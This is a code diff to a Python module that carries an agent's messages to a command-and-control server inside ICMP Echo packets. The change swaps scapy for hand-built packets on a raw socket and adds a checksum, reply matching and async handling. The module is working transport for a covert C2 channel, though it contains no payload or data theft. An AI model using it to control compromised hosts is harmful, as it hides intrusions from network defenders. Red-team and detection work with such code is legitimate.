@@ -3,14 +3,47 @@ Agent.protocols.icmp_comm
 
 Handles communication over ICMP for agent interaction with the C2 server.
 Supports sending messages using ICMP Echo Requests but does not implement polling or heartbeat.
+Echo packets are assembled by hand and exchanged over one persistent raw socket.
 """
 #!/usr/bin/env python3
 
-from scapy.all import sr1
-from scapy.layers.inet import IP, ICMP
+import array
+import asyncio
+import os
+import socket
+import struct
+import time
 from ..logger import logger
 from base import BaseComm
 
+ICMP_ECHO_REPLY = 0
+ICMP_ECHO_REQUEST = 8
+
+# Seconds to wait for the matching Echo Reply
+REPLY_TIMEOUT = 2
+
+
+def icmp_checksum(data: bytes) -> int:
+    """
+    Computes the Internet checksum (RFC 1071) of `data`.
+
+    The words are summed in native byte order and folded; one's-complement
+    addition is byte-order independent, so the result is packed back with "=H".
+
+    Args:
+        data (bytes): ICMP header and payload with a zeroed checksum field.
+
+    Returns:
+        int: The checksum in native byte order.
+    """
+    if len(data) % 2:
+        data += b"\x00"
+    total = sum(array.array("H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    total += total >> 16
+    return ~total & 0xFFFF
+
+
 class ICMPComm(BaseComm):
     """
     Implements ICMP-based communication for the agent.
@@ -27,8 +60,31 @@ class ICMPComm(BaseComm):
         self.target_ip = target_ip
         self.agent_id = agent_id
         self.auth_token = auth_token
+        self._ident = os.getpid() & 0xFFFF
+        self._seq = 0
+        self._lock = asyncio.Lock()  # One request/reply exchange on the socket at a time
+        self._sock = None  # Opened on the first send, then reused for every message
+        self._disabled = False  # Set when raw sockets are not permitted
 
-    def poll_commands(self):
+    def _open_socket(self):
+        """
+        Returns the raw ICMP socket, opening it on first use.
+
+        Raw sockets require CAP_NET_RAW / root; without them the channel is
+        disabled instead of failing the agent's startup.
+
+        Returns:
+            socket.socket: The raw socket, or None if the channel is disabled.
+        """
+        if self._sock is None and not self._disabled:
+            try:
+                self._sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+            except PermissionError as e:
+                logger.warning("ICMP channel disabled, raw sockets not permitted: %s", e)
+                self._disabled = True
+        return self._sock
+
+    async def poll_commands(self) -> list:
         """
         Polls for commands via ICMP (currently not implemented).
 
@@ -38,7 +94,37 @@ class ICMPComm(BaseComm):
         logger.info("ICMP poll_commands not implemented")
         return []
 
-    def send_message(self, message: str) -> str:
+    def _exchange(self, payload: bytes, seq: int) -> bytes:
+        """
+        Sends one Echo Request and blocks until the matching Echo Reply or the timeout.
+
+        Args:
+            payload (bytes): The message to carry in the echo data.
+            seq (int): Sequence number identifying this request.
+
+        Returns:
+            bytes: The echo data of the reply, or b"" on timeout.
+        """
+        header = struct.pack("!BBHHH", ICMP_ECHO_REQUEST, 0, 0, self._ident, seq)
+        checksum = icmp_checksum(header + payload)
+        packet = header[:2] + struct.pack("=H", checksum) + header[4:] + payload
+        self._sock.sendto(packet, (self.target_ip, 0))
+
+        deadline = time.monotonic() + REPLY_TIMEOUT
+        while (remaining := deadline - time.monotonic()) > 0:
+            self._sock.settimeout(remaining)
+            try:
+                data, _ = self._sock.recvfrom(65535)
+            except socket.timeout:
+                break
+            offset = (data[0] & 0x0F) * 4  # IP header length
+            icmp_type, _, _, ident, reply_seq = struct.unpack_from("!BBHHH", data, offset)
+            # Raw sockets see every ICMP packet, including our own requests on loopback
+            if icmp_type == ICMP_ECHO_REPLY and ident == self._ident and reply_seq == seq:
+                return data[offset + 8:]
+        return b""
+
+    async def send_message(self, message: str) -> str:
         """
         Sends a message encoded in an ICMP Echo Request.
 
@@ -49,18 +135,27 @@ class ICMPComm(BaseComm):
             str: The response message received via ICMP Echo Reply, or an empty string if an error occurs.
         """
         try:
-            pkt = IP(dst=self.target_ip) / ICMP() / message.encode()
-            reply = sr1(pkt, timeout=2, verbose=0)
-            if reply and reply.haslayer(ICMP):
-                payload = reply.getlayer(ICMP).payload.load
-                return payload.decode(errors="ignore")
+            async with self._lock:
+                if self._open_socket() is None:
+                    return ""
+                self._seq = (self._seq + 1) & 0xFFFF
+                reply = await asyncio.to_thread(self._exchange, message.encode(), self._seq)
+            return reply.decode(errors="ignore")
         except Exception as e:
             logger.error("ICMP send_message error: %s", e)
         return ""
 
-    def heartbeat(self):
+    async def heartbeat(self):
         """
         Sends a heartbeat signal via ICMP.
         Currently not implemented.
         """
-        logger.info("ICMP heartbeat not implemented")
\ No newline at end of file
+        logger.info("ICMP heartbeat not implemented")
+
+    async def close(self):
+        """
+        Closes the raw ICMP socket, if it was opened.
+        """
+        if self._sock is not None:
+            self._sock.close()
+            self._sock = None